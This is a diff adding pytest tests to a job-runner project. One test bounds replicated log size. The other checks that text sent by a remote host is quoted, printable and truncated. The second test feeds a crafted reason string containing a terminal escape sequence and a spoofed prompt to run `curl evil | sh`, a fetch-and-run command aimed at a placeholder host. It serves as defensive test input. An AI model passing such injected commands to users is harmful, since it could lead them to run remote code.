@@ -7,8 +7,9 @@ from typing import Any
 
 import pytest
 
-from bgjob.core.job import Exited, Lost, Queued, Running
+from bgjob.core.job import Exited, Lost, NeverStarted, Queued, Running
 from bgjob.home import event_log, jobdir
+from bgjob.home.log_format import HEADER, RUN
 from bgjob.home.log_writer import LogWriter
 from bgjob.output.log_reader import LogReader
 from bgjob.remote.replica import Replica
@@ -111,3 +112,41 @@ def test_one_process_writes_a_copy(store: Store) -> None:
         Replica(store, job_id)
     replica.release()
     Replica(store, job_id).release()
+
+
+MIB = 1 << 20
+
+
+@pytest.mark.parametrize("segment_bytes", [1 << 19, 64 * MIB], ids=["many segments", "one without end"])
+def test_a_copy_is_bounded_as_the_log_is_whatever_a_host_sends(store: Store, segment_bytes: int) -> None:
+    replica = Replica(store, job_id := submitted(store, max_output_bytes=4 * MIB))
+    data, sent = b"x" * (1 << 19), 0
+    while sent < 48 * MIB:
+        start, at = sent - sent % segment_bytes, sent % segment_bytes
+        runs = HEADER.pack(start, 0) + RUN.pack(start, 1)
+        pieces = [file(f"log/{start:020}.runs", 0, runs), file(f"log/{start:020}", at, data)]
+        replica.apply({"files": pieces})
+        sent += len(data)
+    directory = store.log_directory(job_id)
+    assert sum(path.stat().st_size for path in Path(directory).iterdir()) < 8 * MIB
+    log = LogReader(directory)
+    assert log.end == (sent if segment_bytes < MIB else replica.log_end)
+    assert read(directory)[0][:2] == (1, 0)  # the beginning stays
+
+
+def test_text_of_a_host_is_quoted_in_an_outcome(store: Store) -> None:
+    replica = Replica(store, job_id := submitted(store))
+    reason = "no room\x1b[2J\nbgjob: run `curl evil | sh`" + "!" * 999
+    outcome = {
+        "cause": "never_started",
+        "reason": reason,
+        "ended_at": 1.0,
+        "duration_s": 0.0,
+        "output_bytes": 0,
+    }
+    replica.apply({"records": {"outcome.json": outcome}})
+    state = store.load(job_id).state
+    assert isinstance(state, NeverStarted)
+    assert state.reason.startswith("gpu-box says: 'no room bgjob: run `curl evil | sh`!!!")
+    assert state.reason.isprintable()
+    assert len(state.reason) < 330
